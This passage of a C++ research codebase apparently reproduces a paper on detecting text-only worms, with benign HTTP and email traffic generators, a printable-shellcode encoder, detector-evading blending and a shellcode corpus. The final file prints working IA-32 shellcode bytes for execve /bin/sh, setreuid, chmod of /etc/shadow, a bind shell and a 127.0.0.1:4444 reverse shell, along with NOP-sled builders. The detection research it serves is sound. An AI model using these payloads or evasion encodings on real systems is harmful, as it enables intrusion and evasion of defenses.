    for (const auto& [ch, count] : nexts) {
      node.nexts.emplace_back(ch, count);
      node.total += count;
    }
    contexts_.emplace(context, std::move(node));
    start_contexts_.push_back(context);
  }
  for (const auto& [ch, count] : unigram_counts) {
    unigram_.nexts.emplace_back(ch, count);
    unigram_.total += count;
  }
}

char MarkovTextGenerator::sample(std::uint16_t context,
                                 util::Xoshiro256& rng) const {
  const auto it = contexts_.find(context);
  const Node& node = (it != contexts_.end()) ? it->second : unigram_;
  assert(node.total > 0);
  std::uint64_t pick = rng.next_below(node.total);
  for (const auto& [ch, count] : node.nexts) {
    if (pick < count) return ch;
    pick -= count;
  }
  return node.nexts.back().first;
}

std::string MarkovTextGenerator::generate(std::size_t length,
                                          util::Xoshiro256& rng) const {
  std::string out;
  out.reserve(length);
  if (length == 0) return out;
  assert(!start_contexts_.empty());
  std::uint16_t context =
      start_contexts_[rng.next_below(start_contexts_.size())];
  out.push_back(static_cast<char>(context >> 8));
  if (length > 1) out.push_back(static_cast<char>(context & 0xFF));
  while (out.size() < length) {
    const char next = sample(context, rng);
    out.push_back(next);
    context = static_cast<std::uint16_t>((context << 8) |
                                         static_cast<std::uint8_t>(next));
  }
  out.resize(length);
  return out;
}

}  // namespace mel::traffic
