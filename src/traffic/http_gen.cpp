#include "mel/traffic/http_gen.hpp"

#include <array>
#include <sstream>

#include "mel/util/bytes.hpp"

namespace mel::traffic {

namespace {

constexpr std::array<std::string_view, 20> kPathWords = {
    "index",   "about",   "research", "people",  "courses", "news",
    "images",  "static",  "assets",   "search",  "login",   "profile",
    "archive", "library", "seminar",  "projects", "contact", "faq",
    "store",   "blog",
};

constexpr std::array<std::string_view, 12> kExtensions = {
    ".html", ".htm", ".php", ".jsp", ".css", ".js",
    ".png",  ".jpg", ".gif", ".pdf", ".txt", "",
};

constexpr std::array<std::string_view, 10> kQueryKeys = {
    "q", "id", "page", "user", "lang", "sort", "cat", "ref", "sid", "view",
};

constexpr std::array<std::string_view, 8> kUserAgents = {
    "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)",
    "Mozilla/5.0 (X11; U; Linux i686; en-US)",
    "Mozilla/5.0 (Windows; U; Windows NT 5.1; en-US)",
    "Opera/9.02 (Windows NT 5.1; U; en)",
    "Lynx/2.8.5rel.1 libwww-FM/2.14",
    "Wget/1.10.2",
    "Mozilla/5.0 (Macintosh; U; PPC Mac OS X; en)",
    "curl/7.15.5",
};

constexpr std::array<std::string_view, 6> kHosts = {
    "www.cise.example.edu", "mail.example.edu",  "www.example.com",
    "news.example.org",     "shop.example.com",  "wiki.example.net",
};

template <typename Array>
std::string_view pick(const Array& values, util::Xoshiro256& rng) {
  return values[rng.next_below(values.size())];
}

std::string random_token(util::Xoshiro256& rng, std::size_t length) {
  static constexpr char kAlphabet[] =
      "abcdefghijklmnopqrstuvwxyz0123456789";
  std::string token;
  token.reserve(length);
  for (std::size_t i = 0; i < length; ++i) {
    token.push_back(kAlphabet[rng.next_below(sizeof(kAlphabet) - 1)]);
  }
  return token;
}

/// Wraps Markov prose into simple single-line HTML.
std::string html_body(const MarkovTextGenerator& text, std::size_t size,
                      util::Xoshiro256& rng) {
  std::ostringstream out;
  out << "<html><head><title>" << text.generate(24, rng)
      << "</title></head><body>";
  while (static_cast<std::size_t>(out.tellp()) + 20 < size) {
    out << "<p>" << text.generate(40 + rng.next_below(160), rng) << "</p>";
    if (rng.next_bernoulli(0.2)) {
      out << "<a href=\"/" << pick(kPathWords, rng) << "/"
          << random_token(rng, 6) << ".html\">" << text.generate(12, rng)
          << "</a>";
    }
  }
  out << "</body></html>";
  std::string body = out.str();
  if (body.size() > size) body.resize(size);
  return body;
}

}  // namespace

HttpGenerator::HttpGenerator(std::uint64_t seed) : text_() { (void)seed; }

std::string HttpGenerator::make_url(util::Xoshiro256& rng) const {
  std::ostringstream url;
  const std::size_t depth = 1 + rng.next_below(3);
  for (std::size_t i = 0; i < depth; ++i) {
    url << '/' << pick(kPathWords, rng);
  }
  url << pick(kExtensions, rng);
  if (rng.next_bernoulli(0.5)) {
    url << '?';
    const std::size_t params = 1 + rng.next_below(3);
    for (std::size_t i = 0; i < params; ++i) {
      if (i > 0) url << '&';
      url << pick(kQueryKeys, rng) << '=' << random_token(rng, 3 + rng.next_below(8));
    }
  }
  return url.str();
}

HttpMessage HttpGenerator::make_request(util::Xoshiro256& rng) const {
  HttpMessage message;
  const bool is_post = rng.next_bernoulli(0.25);
  std::ostringstream headers;
  std::string body;
  if (is_post) {
    std::ostringstream form;
    const std::size_t fields = 2 + rng.next_below(4);
    for (std::size_t i = 0; i < fields; ++i) {
      if (i > 0) form << '&';
      form << pick(kQueryKeys, rng) << '='
           << text_.generate(4 + rng.next_below(20), rng);
    }
    body = form.str();
    // Form data is URL-encoded: spaces become '+'.
    for (char& c : body) {
      if (c == ' ') c = '+';
    }
  }
  headers << (is_post ? "POST " : "GET ") << make_url(rng) << " HTTP/1.1\r\n"
          << "Host: " << pick(kHosts, rng) << "\r\n"
          << "User-Agent: " << pick(kUserAgents, rng) << "\r\n"
          << "Accept: text/html,text/plain;q=0.8,*/*;q=0.5\r\n"
          << "Accept-Language: en-us,en;q=0.5\r\n"
          << "Connection: keep-alive\r\n";
  if (rng.next_bernoulli(0.4)) {
    headers << "Cookie: session=" << random_token(rng, 16)
            << "; pref=" << random_token(rng, 6) << "\r\n";
  }
  if (is_post) {
    headers << "Content-Type: application/x-www-form-urlencoded\r\n"
            << "Content-Length: " << body.size() << "\r\n";
  }
  headers << "\r\n";
  message.headers = headers.str();
  message.body = body;
  message.raw = message.headers + message.body;
  return message;
}

HttpMessage HttpGenerator::make_response(std::size_t body_size,
                                         util::Xoshiro256& rng) const {
  HttpMessage message;
  const bool ok = rng.next_bernoulli(0.92);
  message.body = html_body(text_, body_size, rng);
  std::ostringstream headers;
  headers << "HTTP/1.1 " << (ok ? "200 OK" : "404 Not Found") << "\r\n"
          << "Date: Mon, 06 Jul 2026 12:00:00 GMT\r\n"
          << "Server: Apache/2.0.52 (Unix)\r\n"
          << "Content-Type: text/html; charset=iso-8859-1\r\n"
          << "Content-Length: " << message.body.size() << "\r\n"
          << "Connection: close\r\n\r\n";
  message.headers = headers.str();
  message.raw = message.headers + message.body;
  return message;
}

std::string strip_headers(const std::string& message) {
  const std::size_t blank = message.find("\r\n\r\n");
  if (blank == std::string::npos) return message;
  return message.substr(blank + 4);
}

std::string ascii_filter(std::string_view message) {
  std::string out;
  out.reserve(message.size());
  for (char c : message) {
    const auto b = static_cast<std::uint8_t>(c);
    if (util::is_text_byte(b)) {
      out.push_back(c);
    } else if (b == '\r' || b == '\n' || b == '\t') {
      out.push_back(' ');
    } else {
      out.push_back('.');
    }
  }
  return out;
}

}  // namespace mel::traffic
