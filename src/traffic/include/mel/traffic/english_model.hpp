#pragma once
// Statistical model of benign English/web text. Substitutes the paper's
// captured departmental web traffic (Section 5.1): the MEL model consumes
// only the character frequency distribution and the local randomness of
// the stream, both of which this module reproduces.

#include <array>
#include <cstdint>
#include <string>
#include <string_view>
#include <unordered_map>
#include <vector>

#include "mel/util/bytes.hpp"
#include "mel/util/rng.hpp"

namespace mel::traffic {

/// Probability per byte value (sums to 1; text analyses expect all mass in
/// 0x20..0x7E).
using ByteDistributionTable = std::array<double, 256>;

/// Relative frequency of lowercase letters in English prose ('a'..'z'),
/// normalized to sum 1. (Classic Lewand/Oxford ordering: e t a o i n ...)
[[nodiscard]] const std::array<double, 26>& english_letter_frequencies();

/// A preset distribution modeling ASCII-filtered web text: ~70% lowercase
/// letters by English frequency, plus spaces, digits, uppercase and
/// punctuation. This is the "pre-set (from experience)" table of
/// Section 5.2.
[[nodiscard]] const ByteDistributionTable& web_text_distribution();

/// Empirical byte distribution of a corpus chunk (the "linear sweep of the
/// input character stream" alternative of Section 5.2).
[[nodiscard]] ByteDistributionTable measure_distribution(util::ByteView bytes);

/// Merges per-case measurements into one distribution.
[[nodiscard]] ByteDistributionTable measure_distribution(
    const std::vector<util::ByteBuffer>& corpus);

/// Order-2 Markov chain text generator trained on an embedded English/web
/// seed corpus. Output is pure text bytes (0x20..0x7E).
class MarkovTextGenerator {
 public:
  /// Trains on the built-in corpus.
  MarkovTextGenerator();
  /// Trains on caller-supplied text (must be pure text bytes).
  explicit MarkovTextGenerator(std::string_view corpus);

  /// Generates `length` characters of Markov text.
  [[nodiscard]] std::string generate(std::size_t length,
                                     util::Xoshiro256& rng) const;

 private:
  struct Node {
    std::vector<std::pair<char, std::uint32_t>> nexts;
    std::uint32_t total = 0;
  };
  /// Samples the successor of a 2-char context; falls back to the global
  /// unigram distribution for unseen contexts.
  [[nodiscard]] char sample(std::uint16_t context,
                            util::Xoshiro256& rng) const;

  std::unordered_map<std::uint16_t, Node> contexts_;
  Node unigram_;  ///< Order-0 fallback.
  std::vector<std::uint16_t> start_contexts_;  ///< Seed states.
};

}  // namespace mel::traffic
