#pragma once
// Benign dataset builder mirroring the paper's evaluation corpus
// (Section 5.1): ~100 cases of ~4K text characters of header-stripped web
// traffic each.

#include <vector>

#include "mel/traffic/english_model.hpp"
#include "mel/util/bytes.hpp"

namespace mel::traffic {

struct BenignDatasetOptions {
  std::size_t cases = 100;       ///< Number of benign samples.
  std::size_t case_size = 4000;  ///< Characters per sample (paper: ~4K).
  std::uint64_t seed = 2008;     ///< PRNG seed (ICDCS year, naturally).
  /// Mixture of payload kinds (normalized internally). Header-stripped web
  /// captures are dominated by response bodies; form/query payloads are a
  /// small fraction. (The form kind is also the statistically hardest for
  /// the model — its immediate-heavy byte mix hides the invalidating
  /// opcodes inside operands — so the ablation benches exercise it
  /// separately at full weight.)
  double html_weight = 0.70;  ///< HTML response bodies.
  double prose_weight = 0.25; ///< Plain Markov English.
  double form_weight = 0.05;  ///< URL-encoded form/query payloads.
};

/// Builds the benign corpus: every sample is pure text (0x20..0x7E),
/// header-stripped, exactly case_size bytes.
[[nodiscard]] std::vector<util::ByteBuffer> make_benign_dataset(
    const BenignDatasetOptions& options = {});

}  // namespace mel::traffic
