#pragma once
// Synthetic HTTP traffic generator: requests and responses shaped like the
// departmental web capture the paper used (Section 5.1), plus the header
// stripping step it describes.

#include <string>

#include "mel/traffic/english_model.hpp"
#include "mel/util/rng.hpp"

namespace mel::traffic {

/// One synthesized HTTP message.
struct HttpMessage {
  std::string raw;      ///< Full message including header block and CRLFs.
  std::string headers;  ///< Header block (start line through blank line).
  std::string body;     ///< Payload after the blank line.
};

class HttpGenerator {
 public:
  explicit HttpGenerator(std::uint64_t seed = 42);

  /// GET/POST request with realistic URL, query string and headers.
  /// POST bodies are URL-encoded form data.
  [[nodiscard]] HttpMessage make_request(util::Xoshiro256& rng) const;

  /// 200/404 response with headers and an HTML body of roughly
  /// `body_size` characters.
  [[nodiscard]] HttpMessage make_response(std::size_t body_size,
                                          util::Xoshiro256& rng) const;

  /// A plausible URL path + query string (also used standalone for the
  /// URL-channel experiments the paper motivates).
  [[nodiscard]] std::string make_url(util::Xoshiro256& rng) const;

 private:
  MarkovTextGenerator text_;
};

/// Strips the header block: returns the payload after the first blank line,
/// or the whole message if no header block is present (paper Section 5.1:
/// "after stripping off the headers").
[[nodiscard]] std::string strip_headers(const std::string& message);

/// Maps a message onto the keyboard-enterable domain: CR/LF/TAB become
/// spaces, any other non-text byte becomes '.'. Models the ASCII filter in
/// front of text-only services.
[[nodiscard]] std::string ascii_filter(std::string_view message);

}  // namespace mel::traffic
