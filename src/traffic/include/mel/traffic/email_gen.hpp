#pragma once
// Synthetic email (RFC 822-ish) traffic: the paper's other motivating
// text-only channel ("many protocols are text-based, viz ... email
// traffic"). Generates realistic message shapes for benign corpora and
// for the SMTP-channel variant of the gateway scenario.

#include <string>
#include <vector>

#include "mel/traffic/english_model.hpp"
#include "mel/util/bytes.hpp"
#include "mel/util/rng.hpp"

namespace mel::traffic {

struct EmailMessage {
  std::string raw;      ///< Headers + blank line + body, CRLF line ends.
  std::string headers;
  std::string body;
};

class EmailGenerator {
 public:
  EmailGenerator();

  /// One message with plausible From/To/Subject/Date/Message-ID headers
  /// and a prose body of roughly `body_size` characters, with quoted
  /// reply lines and a signature.
  [[nodiscard]] EmailMessage make_email(std::size_t body_size,
                                        util::Xoshiro256& rng) const;

  /// A benign mail-spool corpus: `cases` messages, each ASCII-filtered
  /// and trimmed/padded to exactly `case_size` text bytes of body.
  [[nodiscard]] std::vector<util::ByteBuffer> make_mail_corpus(
      std::size_t cases, std::size_t case_size,
      std::uint64_t seed) const;

 private:
  MarkovTextGenerator text_;
};

}  // namespace mel::traffic
