#pragma once
// Synthetic binary shellcode corpus. Substitutes the Aleph One buffer
// overflow payloads of Section 5.1: classic IA-32 Linux shellcodes plus
// the two worm delivery shapes the paper discusses (NOP-sled worms of the
// APE/Stride era, and modern register-spring worms without a sled).

#include <string>
#include <vector>

#include "mel/util/bytes.hpp"
#include "mel/util/rng.hpp"

namespace mel::textcode {

struct Shellcode {
  std::string name;
  std::string description;
  util::ByteBuffer bytes;
};

/// The base binary payloads: execve("/bin/sh"), setreuid+execve, exit,
/// chmod, dup2+execve (bind-shell tail) and a longer staged payload.
[[nodiscard]] const std::vector<Shellcode>& binary_shellcode_corpus();

/// Classic sled-delivered worm image: `sled_length` NOP-class bytes, the
/// payload, then the return address repeated `ret_repeats` times.
/// This is the shape APE and Stride were built to catch (Section 4.1).
[[nodiscard]] util::ByteBuffer make_sled_worm(const Shellcode& payload,
                                              std::size_t sled_length,
                                              std::size_t ret_repeats,
                                              util::Xoshiro256& rng);

/// Register-spring worm image: no sled — junk padding, the payload at a
/// known offset, and a register-spring return address (jmp/call reg in a
/// loaded image). The shape that obsoleted sled detectors (Section 4.1).
[[nodiscard]] util::ByteBuffer make_register_spring_worm(
    const Shellcode& payload, std::size_t junk_length,
    std::size_t ret_repeats, util::Xoshiro256& rng);

/// A polymorphic sled: single-byte NOP-equivalents (inc/dec/push reg,
/// cld/stc/...) instead of 0x90, as Stride's evaluation uses.
[[nodiscard]] util::ByteBuffer make_polymorphic_sled(std::size_t length,
                                                     util::Xoshiro256& rng);

}  // namespace mel::textcode
