#pragma once
// Kolesnikov-Lee style polymorphic blending (paper Section 1): pad a text
// worm with characters drawn to match a benign byte-frequency profile, so
// that 1-gram statistical detectors (PAYL) see a normal-looking payload
// while the executable decrypter is untouched.

#include "mel/traffic/english_model.hpp"
#include "mel/util/bytes.hpp"
#include "mel/util/rng.hpp"

namespace mel::textcode {

struct BlendOptions {
  /// Total size of the blended payload. Must exceed the worm size; the
  /// larger the budget, the closer the blend gets to the target profile.
  std::size_t total_size = 4000;
};

/// Appends padding sampled from `target` (deficit-first) after the worm
/// until the whole payload's byte histogram approximates the target
/// distribution. The worm prefix is preserved verbatim, so its MEL — and
/// its function — are unchanged. Precondition: total_size >= worm.size().
[[nodiscard]] util::ByteBuffer blend_to_distribution(
    util::ByteView worm, const traffic::ByteDistributionTable& target,
    const BlendOptions& options, util::Xoshiro256& rng);

/// L1 distance between the byte distribution of `payload` and `target`
/// (0 = identical profiles, 2 = disjoint). Used to verify blending works.
[[nodiscard]] double distribution_distance(
    util::ByteView payload, const traffic::ByteDistributionTable& target);

}  // namespace mel::textcode
