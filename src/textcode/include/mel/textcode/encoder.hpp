#pragma once
// Rix/Eller-style text encoder (paper Sections 2.1/5.1): converts an
// arbitrary binary shellcode into a functionally equivalent program whose
// every byte is keyboard-enterable (0x20..0x7E).
//
// Technique (the published stack-build method for printable shellcode):
//   init:        push esp / pop ecx            ("TY", register setup)
//   per dword d (last to first):
//     and eax, 0x40404040 ; and eax, 0x3F3F3F3F   (zero EAX: masks AND to 0)
//     [optional hop: jno +0x20 over 32 bytes of filler — AND clears OF,
//      so the jump is always taken; a text rel8 is >= 0x20, which is why
//      text jumps can only go far forward]
//     sub eax, k1 ; sub eax, k2 ; sub eax, k3     (EAX = -(k1+k2+k3) = d)
//     push eax                                    (write d to the stack)
//   tail: the smashed return address repeated (text-encodable
//   register-spring style address).
//
// Every instruction is text; there is no loop (text jumps cannot go
// backward: a text displacement byte has MSB 0), so the decrypter is O(n)
// blocks — exactly the structural property Section 2.3 predicts gives
// text malware a high MEL.

#include <array>
#include <string>
#include <string_view>
#include <vector>

#include "mel/textcode/shellcode_corpus.hpp"
#include "mel/util/bytes.hpp"
#include "mel/util/rng.hpp"

namespace mel::textcode {

struct TextWormOptions {
  /// Leading printable sled of single-byte text instructions (inc/dec/push
  /// reg — the classic 'A' = inc ecx trick), as real exploit buffers carry
  /// to absorb return-address imprecision. Bytes.
  std::size_t text_sled_length = 64;
  /// Insert jno-over-filler hops between decrypter blocks (exercises the
  /// jump opcodes jo..jng and the forward-only property).
  bool jump_hops = false;
  /// Probability of a hop after each block when jump_hops is on.
  double hop_probability = 0.25;
  /// Repetitions of the text-encodable return address in the tail (a
  /// stack smash overwrites well past the saved return slot).
  std::size_t ret_tail_dwords = 32;
  /// The smashed return address; must be 4 text bytes (register-spring
  /// addresses inside loaded modules can be chosen text-like).
  std::uint32_t ret_address = 0x62676261;  // "abgb" little-endian.

  /// Bytes the worm must additionally avoid — e.g. quote/separator
  /// characters that would terminate the injection context ("\"'\\&<>"
  /// for an HTML attribute, "\" ;" for a shell word, ...). The encoder's
  /// fixed opcodes (T Y % - P q space @ ?) and the ret address must stay
  /// allowed; encode_text_worm asserts this. The randomized immediate
  /// solver needs a reasonably dense remaining charset (a couple dozen
  /// excluded bytes is fine).
  std::string forbidden;
};

/// Allowed byte set for encoder immediates (0x21..0x7E minus exclusions).
struct ImmediateCharset {
  std::array<bool, 256> allowed{};

  /// The standard printable-non-space set 0x21..0x7E.
  [[nodiscard]] static ImmediateCharset standard();
  /// Standard set minus every byte in `forbidden`.
  [[nodiscard]] static ImmediateCharset excluding(std::string_view forbidden);

  [[nodiscard]] bool contains(std::uint8_t b) const noexcept {
    return allowed[b];
  }
  [[nodiscard]] std::uint8_t min_byte() const noexcept;
  [[nodiscard]] std::uint8_t max_byte() const noexcept;
  [[nodiscard]] int size() const noexcept;
};

/// A k1+k2+k3 decomposition with all-text bytes such that
/// (k1 + k2 + k3) mod 2^32 == (0 - value) mod 2^32, i.e. subtracting the
/// three constants from 0 yields `value`.
struct SubTriple {
  std::uint32_t k1 = 0;
  std::uint32_t k2 = 0;
  std::uint32_t k3 = 0;
};

/// Solves the triple for any 32-bit value; every byte of k1..k3 lies in
/// 0x21..0x7E. The decomposition is randomized (worm polymorphism).
[[nodiscard]] SubTriple solve_sub_triple(std::uint32_t value,
                                         util::Xoshiro256& rng);

/// Charset-restricted variant: every byte of k1..k3 comes from `charset`.
/// Precondition: the charset permits a solution for every byte value
/// (guaranteed when it has >= ~16 values spread over low and high bytes;
/// asserted internally).
[[nodiscard]] SubTriple solve_sub_triple(std::uint32_t value,
                                         const ImmediateCharset& charset,
                                         util::Xoshiro256& rng);

/// Encodes `binary_payload` as a pure-text worm. The payload is padded to
/// a multiple of 4 with NOPs. Postcondition: the result is a text buffer.
[[nodiscard]] util::ByteBuffer encode_text_worm(util::ByteView binary_payload,
                                                const TextWormOptions& options,
                                                util::Xoshiro256& rng);

/// Concretely executes a text worm's decrypter (and/sub/push/jcc/... with
/// real register and flag semantics) and returns the payload it builds on
/// the simulated stack. This is the round-trip potency check substituting
/// the paper's "run the vulnerable program, observe the shell".
/// Returns an empty buffer if execution leaves the modeled subset.
[[nodiscard]] util::ByteBuffer simulate_stack_decoder(util::ByteView text_worm);

/// >= `count` text worms spanning the binary corpus, both hop variants,
/// several tail lengths and randomized triples. Names are stable.
[[nodiscard]] std::vector<Shellcode> text_worm_corpus(std::size_t count,
                                                      std::uint64_t seed);

}  // namespace mel::textcode
