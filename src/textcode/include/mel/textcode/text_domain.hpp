#pragma once
// Structural analysis of the keyboard-enterable byte domain (paper
// Section 7 / Figure 4): the three-part partition of 0x20..0x7E and the
// closure of XOR over it, which is why a single-key XOR decrypter cannot
// exist for text-in-text encryption.

#include <array>
#include <cstdint>

#include "mel/util/bytes.hpp"

namespace mel::textcode {

/// The paper's three nearly equal parts of the 95-character text domain.
enum class TextPart : std::uint8_t {
  kPunctLow = 0,  ///< 0x20..0x3F
  kUpper = 1,     ///< 0x40..0x5F
  kLower = 2,     ///< 0x60..0x7E
  kNotText = 3,
};

[[nodiscard]] constexpr TextPart text_part(std::uint8_t b) noexcept {
  if (b >= 0x20 && b <= 0x3F) return TextPart::kPunctLow;
  if (b >= 0x40 && b <= 0x5F) return TextPart::kUpper;
  if (b >= 0x60 && b <= 0x7E) return TextPart::kLower;
  return TextPart::kNotText;
}

/// XOR closure statistics for one (part, part) cell of Figure 4.
struct XorCell {
  std::uint64_t pairs = 0;         ///< Byte pairs enumerated.
  std::uint64_t text_results = 0;  ///< XORs landing back in 0x20..0x7E.
  std::uint64_t low_results = 0;   ///< XORs landing in 0x00..0x1F.
  [[nodiscard]] double text_fraction() const {
    return pairs ? static_cast<double>(text_results) /
                       static_cast<double>(pairs)
                 : 0.0;
  }
};

/// Exhaustive 95x95 enumeration, bucketed by the two operands' parts.
/// Index [i][j] with i,j in {0,1,2} (kPunctLow/kUpper/kLower).
[[nodiscard]] std::array<std::array<XorCell, 3>, 3> xor_closure_table();

/// True iff a single key k exists such that k ^ b is text for every text
/// byte b. The paper argues (and Figure 4 shows) none exists; this
/// function proves it by exhaustion.
[[nodiscard]] bool single_xor_key_exists();

/// Number of text bytes b for which key ^ b stays text (the best key
/// maximizes this; see bench fig4).
[[nodiscard]] int xor_key_coverage(std::uint8_t key);

}  // namespace mel::textcode
