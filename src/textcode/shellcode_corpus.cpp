#include "mel/textcode/shellcode_corpus.hpp"

#include "mel/disasm/assembler.hpp"

namespace mel::textcode {

namespace {

using disasm::Assembler;
using disasm::Cond;
using disasm::Gpr;

/// Classic TCP reverse shell (connect-back to 127.0.0.1:4444, dup2 the
/// socket over stdio, execve a shell), authored through the assembler —
/// the corpus's demonstration of the mel::disasm::Assembler toolchain.
util::ByteBuffer assemble_reverse_shell() {
  Assembler a;
  // sockfd = socketcall(SYS_SOCKET, {AF_INET, SOCK_STREAM, 0})
  a.xor_(Gpr::kEax, Gpr::kEax)
      .xor_(Gpr::kEbx, Gpr::kEbx)
      .xor_(Gpr::kEdx, Gpr::kEdx)
      .push(Gpr::kEdx)                  // protocol 0
      .push_imm8(1)                     // SOCK_STREAM
      .push_imm8(2)                     // AF_INET
      .mov(Gpr::kEcx, Gpr::kEsp)
      .mov_imm8(Gpr::kEax, 0x66)        // socketcall
      .mov_imm8(Gpr::kEbx, 0x01)        // SYS_SOCKET
      .int_(0x80)
      .mov(Gpr::kEsi, Gpr::kEax);       // save sockfd
  // connect(sockfd, {AF_INET, 4444, 127.0.0.1}, 16)
  a.push_imm32(0x0100007F)              // 127.0.0.1
      .push_imm32(0x5C110002)           // port 4444, AF_INET
      .mov(Gpr::kEcx, Gpr::kEsp)
      .push_imm8(16)                    // addrlen
      .push(Gpr::kEcx)                  // &sockaddr
      .push(Gpr::kEsi)                  // sockfd
      .mov(Gpr::kEcx, Gpr::kEsp)
      .mov_imm8(Gpr::kEax, 0x66)
      .mov_imm8(Gpr::kEbx, 0x03)        // SYS_CONNECT
      .int_(0x80);
  // dup2(sockfd, 2..0)
  Assembler::Label dup_loop = a.make_label();
  a.xor_(Gpr::kEcx, Gpr::kEcx).mov_imm8(Gpr::kEcx, 0x02);  // cl = 2
  a.bind(dup_loop)
      .mov_imm8(Gpr::kEax, 0x3F)        // dup2
      .mov(Gpr::kEbx, Gpr::kEsi)
      .int_(0x80)
      .dec(Gpr::kEcx)
      .jcc(Cond::kNoSign, dup_loop);    // until ecx underflows past 0
  // execve("/bin/sh", ["/bin/sh"], NULL)
  a.xor_(Gpr::kEax, Gpr::kEax)
      .push(Gpr::kEax)
      .push_imm32(0x68732F2F)           // "//sh"
      .push_imm32(0x6E69622F)           // "/bin"
      .mov(Gpr::kEbx, Gpr::kEsp)
      .push(Gpr::kEax)
      .push(Gpr::kEbx)
      .mov(Gpr::kEcx, Gpr::kEsp)
      .xor_(Gpr::kEdx, Gpr::kEdx)
      .mov_imm8(Gpr::kEax, 0x0B)
      .int_(0x80);
  return a.take();
}

util::ByteBuffer bytes_of(std::initializer_list<int> values) {
  util::ByteBuffer out;
  out.reserve(values.size());
  for (int v : values) out.push_back(static_cast<std::uint8_t>(v));
  return out;
}

std::vector<Shellcode> build_corpus() {
  std::vector<Shellcode> corpus;

  // Classic 23-byte execve("/bin/sh") (Aleph One lineage):
  //   xor eax,eax; push eax; push "//sh"; push "/bin"; mov ebx,esp;
  //   push eax; push ebx; mov ecx,esp; xor edx,edx; mov al,0xb; int 0x80
  corpus.push_back(Shellcode{
      "execve-binsh",
      "execve(\"/bin/sh\") via int 0x80",
      bytes_of({0x31, 0xC0, 0x50, 0x68, 0x2F, 0x2F, 0x73, 0x68,
                0x68, 0x2F, 0x62, 0x69, 0x6E, 0x89, 0xE3, 0x50,
                0x53, 0x89, 0xE1, 0x31, 0xD2, 0xB0, 0x0B, 0xCD, 0x80})});

  // setreuid(0,0) prefix + execve: the privilege-restoring classic.
  corpus.push_back(Shellcode{
      "setreuid-execve",
      "setreuid(0,0); execve(\"/bin/sh\")",
      bytes_of({0x31, 0xC0, 0x31, 0xDB, 0x31, 0xC9, 0xB0, 0x46,
                0xCD, 0x80, 0x31, 0xC0, 0x50, 0x68, 0x2F, 0x2F,
                0x73, 0x68, 0x68, 0x2F, 0x62, 0x69, 0x6E, 0x89,
                0xE3, 0x50, 0x53, 0x89, 0xE1, 0x31, 0xD2, 0xB0,
                0x0B, 0xCD, 0x80})});

  // exit(0): the smallest meaningful payload.
  corpus.push_back(Shellcode{
      "exit0",
      "exit(0)",
      bytes_of({0x31, 0xC0, 0x31, 0xDB, 0xB0, 0x01, 0xCD, 0x80})});

  // chmod("/etc/shadow", 0666)-style payload.
  corpus.push_back(Shellcode{
      "chmod-shadow",
      "chmod(\"/etc/shadow\", 0666)",
      bytes_of({0x31, 0xC0, 0x50, 0x68, 0x61, 0x64, 0x6F, 0x77,
                0x68, 0x2F, 0x2F, 0x73, 0x68, 0x68, 0x2F, 0x65,
                0x74, 0x63, 0x89, 0xE3, 0x31, 0xC9, 0x66, 0xB9,
                0xB6, 0x01, 0xB0, 0x0F, 0xCD, 0x80, 0x31, 0xC0,
                0xB0, 0x01, 0xCD, 0x80})});

  // dup2(s,0..2) + execve — the tail of a bind/reverse shell.
  corpus.push_back(Shellcode{
      "dup2-execve",
      "dup2 loop then execve(\"/bin/sh\")",
      bytes_of({0x31, 0xC9, 0xB1, 0x03, 0x31, 0xC0, 0xB0, 0x3F,
                0x31, 0xDB, 0xB3, 0x05, 0x49, 0xCD, 0x80, 0x41,
                0x49, 0xE2, 0xF6, 0x31, 0xC0, 0x50, 0x68, 0x2F,
                0x2F, 0x73, 0x68, 0x68, 0x2F, 0x62, 0x69, 0x6E,
                0x89, 0xE3, 0x50, 0x53, 0x89, 0xE1, 0x31, 0xD2,
                0xB0, 0x0B, 0xCD, 0x80})});

  // A longer staged payload: socket(); bind(); listen(); accept();
  // abbreviated but realistically sized (socketcall sequence).
  corpus.push_back(Shellcode{
      "bind-shell",
      "socketcall bind shell (abbreviated staging)",
      bytes_of({0x31, 0xC0, 0x31, 0xDB, 0x31, 0xC9, 0x31, 0xD2,
                0xB0, 0x66, 0xB3, 0x01, 0x51, 0x6A, 0x06, 0x6A,
                0x01, 0x6A, 0x02, 0x89, 0xE1, 0xCD, 0x80, 0x89,
                0xC6, 0xB0, 0x66, 0xB3, 0x02, 0x52, 0x66, 0x68,
                0x7A, 0x69, 0x66, 0x53, 0x89, 0xE1, 0x6A, 0x10,
                0x51, 0x56, 0x89, 0xE1, 0xCD, 0x80, 0xB0, 0x66,
                0xB3, 0x04, 0x6A, 0x01, 0x56, 0x89, 0xE1, 0xCD,
                0x80, 0xB0, 0x66, 0xB3, 0x05, 0x31, 0xC9, 0x51,
                0x51, 0x56, 0x89, 0xE1, 0xCD, 0x80, 0x89, 0xC6,
                0x31, 0xC9, 0xB1, 0x03, 0x31, 0xC0, 0xB0, 0x3F,
                0x89, 0xF3, 0x49, 0xCD, 0x80, 0x41, 0x49, 0xE2,
                0xF6, 0x31, 0xC0, 0x50, 0x68, 0x2F, 0x2F, 0x73,
                0x68, 0x68, 0x2F, 0x62, 0x69, 0x6E, 0x89, 0xE3,
                0x50, 0x53, 0x89, 0xE1, 0x31, 0xD2, 0xB0, 0x0B,
                0xCD, 0x80})});

  corpus.push_back(Shellcode{
      "reverse-shell",
      "connect-back 127.0.0.1:4444, dup2 over stdio, execve (assembled)",
      assemble_reverse_shell()});

  return corpus;
}

}  // namespace

const std::vector<Shellcode>& binary_shellcode_corpus() {
  static const std::vector<Shellcode> corpus = build_corpus();
  return corpus;
}

util::ByteBuffer make_polymorphic_sled(std::size_t length,
                                       util::Xoshiro256& rng) {
  // Single-byte instructions that are effectively NOPs for a sled landing
  // anywhere: inc/dec/push reg, flag toggles, nop.
  static constexpr std::uint8_t kSledBytes[] = {
      0x90,                          // nop
      0x40, 0x41, 0x42, 0x43, 0x46, 0x47,  // inc reg (not esp/ebp)
      0x48, 0x49, 0x4A, 0x4B, 0x4E, 0x4F,  // dec reg
      0x50, 0x51, 0x52, 0x53, 0x56, 0x57,  // push reg
      0xF5, 0xF8, 0xF9, 0xFC, 0xFD,        // cmc/clc/stc/cld/std
      0x98, 0x99,                          // cwde/cdq
  };
  util::ByteBuffer sled;
  sled.reserve(length);
  for (std::size_t i = 0; i < length; ++i) {
    sled.push_back(kSledBytes[rng.next_below(sizeof(kSledBytes))]);
  }
  return sled;
}

util::ByteBuffer make_sled_worm(const Shellcode& payload,
                                std::size_t sled_length,
                                std::size_t ret_repeats,
